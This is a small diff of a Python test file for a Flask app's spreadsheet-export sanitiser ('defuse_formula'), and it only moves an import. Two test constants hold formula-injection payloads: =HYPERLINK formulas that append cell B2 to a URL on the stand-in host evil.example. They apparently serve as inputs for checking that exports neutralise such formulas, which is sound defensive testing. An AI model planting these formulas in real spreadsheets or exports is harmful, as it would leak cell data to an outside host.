@@ -18,8 +18,7 @@ from flask import Flask
 from flask.testing import FlaskClient
 
 from app.exports import defuse_formula
-from tests.integration.conftest import bearer
-from tests.support.broker import Broker
+from tests.support.broker import Broker, bearer
 
 REVIEWED = '=HYPERLINK("https://evil.example/?d="&B2,"x")'  # the review's: not a valid ref, so refused
 HYPERLINK = '=HYPERLINK("evil.example/d="&B2,"x")'  # the same formula as a valid branch name, so granted
